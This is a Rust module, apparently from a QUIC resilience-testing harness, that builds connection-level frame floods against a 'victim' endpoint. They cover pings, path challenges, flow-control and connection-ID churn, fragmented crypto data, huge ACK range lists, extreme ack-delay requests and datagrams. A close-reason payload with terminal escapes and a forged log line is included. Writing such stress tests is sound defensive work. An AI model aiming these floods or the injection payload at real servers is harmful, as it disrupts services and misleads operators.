//! Attacks by frames of a connection, other than those of streams.

use std::time::Duration;

use super::Turn;
use super::attacker::Attacker;
use super::line::own;
use crate::wire::{crypto, put, stream};

/// The same frames in each packet.
fn always(frames: Vec<u8>) -> Turn {
    Box::new(move |attacker| attacker.data(&frames))
}

/// No attack: how much two measurements of the same differ.
pub(super) fn nothing() -> Turn {
    Box::new(|_| {})
}

pub(super) fn ping() -> Turn {
    always(vec![1])
}

pub(super) fn padded() -> Turn {
    let mut frames = vec![1];
    frames.resize(FULL, 0);
    always(frames)
}

pub(super) fn immediate_ack() -> Turn {
    always(vec![1, 0x1f])
}

pub(super) fn challenges() -> Turn {
    let mut serial = 0_u64;
    Box::new(move |attacker| {
        let mut frames = Vec::new();
        while frames.len() + 9 <= FULL {
            serial += 1;
            frames.push(0x1a);
            frames.extend_from_slice(&serial.to_be_bytes());
        }
        attacker.data(&frames);
    })
}

/// The limits of a connection and of its streams, up and down.
pub(super) fn credit() -> Turn {
    let mut serial = 0_u64;
    Box::new(move |attacker| {
        let mut frames = Vec::new();
        while frames.len() + 24 <= FULL {
            serial += 1;
            for (kind, most) in [(0x10, 1 << 20), (0x12, 1 << 10), (0x13, 1 << 10)] {
                values(&mut frames, &[kind, most + serial % 2 * serial]);
            }
            values(&mut frames, &[0x11, 3, (1 << 20) + serial]);
        }
        attacker.data(&frames);
    })
}

/// This end could send more if it might.
pub(super) fn blocked() -> Turn {
    let mut frames = Vec::new();
    while frames.len() + 12 <= FULL {
        values(&mut frames, &[0x14, 1000]);
        values(&mut frames, &[0x15, own(0), 1000]);
        values(&mut frames, &[0x16, 8]);
        values(&mut frames, &[0x17, 8]);
    }
    always(frames)
}

pub(super) fn ids_retired() -> Turn {
    let mut next = 1;
    Box::new(move |attacker| {
        attacker.acknowledges = false;
        let given = attacker.line.as_ref().map_or(0, |line| line.ids_given);
        let mut frames = Vec::new();
        while next < given {
            values(&mut frames, &[0x19, next]);
            next += 1;
        }
        send(attacker, frames);
    })
}

pub(super) fn ids_given() -> Turn {
    let mut next = 1_u64;
    Box::new(move |attacker| {
        let mut frames = Vec::new();
        for _ in 0..30 {
            values(&mut frames, &[0x18, next, next]);
            frames.push(8);
            frames.extend_from_slice(&next.to_be_bytes());
            frames.extend_from_slice(&[next as u8; 16]);
            next += 1;
        }
        attacker.data(&frames);
    })
}

/// One byte of a hello in each frame, every other one missing, where no hello is due.
pub(super) fn crypto_pieces() -> Turn {
    let mut frames = Vec::new();
    for piece in 1.. {
        if frames.len() + 5 > FULL {
            break;
        }
        frames.extend(crypto(piece * 2, &[1]));
    }
    always(frames)
}

/// Acknowledgements of hundreds of ranges: of all that was heard, every other packet.
pub(super) fn ack_ranges() -> Turn {
    Box::new(|attacker| {
        attacker.acknowledges = false;
        let Some(line) = &attacker.line else { return };
        // More packets to name: each ping is answered by one. A number that was not heard may be a trap.
        let heard = line.numbers.newest_first().flat_map(|(first, last)| (first..=last).rev());
        let mut named: Vec<u64> = Vec::new();
        for number in heard {
            if named.last().is_none_or(|last| number + 2 <= *last) && named.len() < 600 {
                named.push(number);
            }
        }
        let mut frames = vec![1];
        if let Some(largest) = named.first() {
            values(&mut frames, &[2, *largest, 0, named.len() as u64 - 1, 0]);
        }
        for pair in named.windows(2) {
            values(&mut frames, &[pair[0] - pair[1] - 2, 0]);
        }
        attacker.data(&frames);
    })
}

/// Acknowledgements to be put off for centuries, and messages whose confirmations want one.
pub(super) fn ack_delay() -> Turn {
    let mut asked = false;
    Box::new(move |attacker| {
        let mut frames = Vec::new();
        if !std::mem::replace(&mut asked, true) {
            values(&mut frames, &[0xaf, 0, 1 << 40, 1 << 61, 1]);
        }
        if let Some(id) = attacker.line.as_mut().and_then(|line| line.open()) {
            frames.extend(stream(id, 0, &[1, 1, 0, 0], true));
        }
        send(attacker, frames);
    })
}

/// As many datagrams of no bytes as a packet holds.
pub(super) fn datagrams() -> Turn {
    always([0x31, 0].repeat(FULL / 2))
}

/// A datagram that fills a packet.
pub(super) fn full_datagrams() -> Turn {
    let mut frames = Vec::new();
    values(&mut frames, &[0x31, 1_200]);
    frames.resize(frames.len() + 1_200, 7);
    always(frames)
}

/// A little of everything: each packet has frames of every small kind.
pub(super) fn medley() -> Turn {
    let mut serial = 0_u64;
    Box::new(move |attacker| {
        let mut frames = Vec::new();
        while frames.len() + 60 <= FULL {
            serial += 1;
            frames.extend_from_slice(&[1, 0, 0x1f, 0x31, 0]);
            values(&mut frames, &[0x10, (1 << 20) + serial, 0x14, serial, 0x11, 3, (1 << 20) + serial]);
            frames.push(0x1a);
            frames.extend_from_slice(&serial.to_be_bytes());
            frames.extend(stream(own(1), 2 + serial % 500 * 2, &[7], false));
        }
        attacker.data(&frames);
    })
}

/// The end of the connection, with a reason as long as a packet, that would paint a terminal.
pub(super) fn reasons() -> Turn {
    Box::new(|attacker| {
        let mut reason = b"\x1b[31mred\r\n{\"level\":\"info\"}\x07\xe2\x80\xae\xff".to_vec();
        reason.resize(1_200, b'A');
        let mut frames = Vec::new();
        values(&mut frames, &[0x1d, 261, reason.len() as u64]);
        frames.extend_from_slice(&reason);
        attacker.data(&frames);
        attacker.give_up();
    })
}

/// Sends the frames. When for long there were none that the victim allows, what was lost is not sent again: the next
/// connection begins.
pub(super) fn send(attacker: &mut Attacker, frames: Vec<u8>) {
    if !frames.is_empty() {
        attacker.progressed = attacker.now;
        attacker.data(&frames);
    } else if attacker.now.duration_since(attacker.progressed) > STALLED {
        attacker.give_up();
    }
}

/// Appends variable-length integers.
pub(super) fn values(out: &mut Vec<u8>, values: &[u64]) {
    for &value in values {
        put(out, value);
    }
}

/// Bytes of frames in a packet of the tunnel's MTU.
pub(super) const FULL: usize = 1_330;
/// The same where a path carries jumbo frames, or fragments.
pub(super) const LONG: usize = 8_800;

/// Several times what an answer takes.
const STALLED: Duration = Duration::from_millis(500);
